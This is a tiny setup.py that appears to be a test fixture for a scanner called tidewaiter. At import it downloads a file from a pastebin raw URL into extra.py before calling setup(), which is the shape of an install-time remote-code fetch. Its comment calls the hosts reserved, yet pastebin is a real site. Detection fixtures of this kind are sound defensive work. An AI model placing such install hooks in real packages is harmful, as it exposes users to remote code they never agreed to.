# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import urllib.request

urllib.request.urlretrieve("https://pastebin.com/raw/inert", "extra.py")


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
